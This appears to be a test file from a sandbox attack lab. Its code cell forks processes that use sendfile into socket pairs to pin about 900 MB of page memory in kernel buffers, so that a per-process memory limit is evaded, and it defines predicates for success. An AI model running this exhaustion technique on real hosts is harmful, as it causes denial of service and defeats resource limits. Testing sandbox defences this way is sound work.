"""Wants the machine's memory: of a file's page one byte that is sent to a socket keeps 4 KB, and counts as one byte.

Won: more than the limit (700 MB) lay in sockets. Outer limit: 900 MB.
"""

from tests.attacks.lab import Attack, Evidence

WALL = "memory_is_in_processes"
CELL = """
import os, socket, time
read, write = os.pipe()
for child in range(7):
    if os.fork() == 0:
        kept, total, told = [], 0, b"no"
        try:
            file = os.open(f"/tmp/{child}", os.O_RDWR | os.O_CREAT)
            while len(kept) < 112:
                kept += socket.socketpair()
                for end in kept[-2:]:
                    end.setblocking(False)
                    try:
                        while total < 900 // 7 << 20:
                            os.ftruncate(file, 0)
                            os.pwrite(file, bytes(1 << 20), 0)
                            for page in range(256):
                                total += 4096 * os.sendfile(end.fileno(), file, page * 4096, 1)
                    except BlockingIOError:
                        pass
            os.ftruncate(file, 0)
        except OSError as error:
            total = -error.errno
        try:
            os.write(write, total.to_bytes(8, "little", signed=True))
            time.sleep(2)
        finally:
            os._exit(0)
told = [int.from_bytes(os.read(read, 8), "little", signed=True) for _ in range(7)]
time.sleep(0.5)
raise Exception(f"LOOT {sum(told) >> 20} MB" if sum(told) > 700 << 20 else f"{told}")
"""
ATTACK = Attack(first=[CELL])


def won(evidence: Evidence) -> bool:
    return "LOOT" in evidence.loot


def took_place(evidence: Evidence) -> bool:
    """It tried, and heard that such files are none."""
    return evidence.told.count("-88") == 7
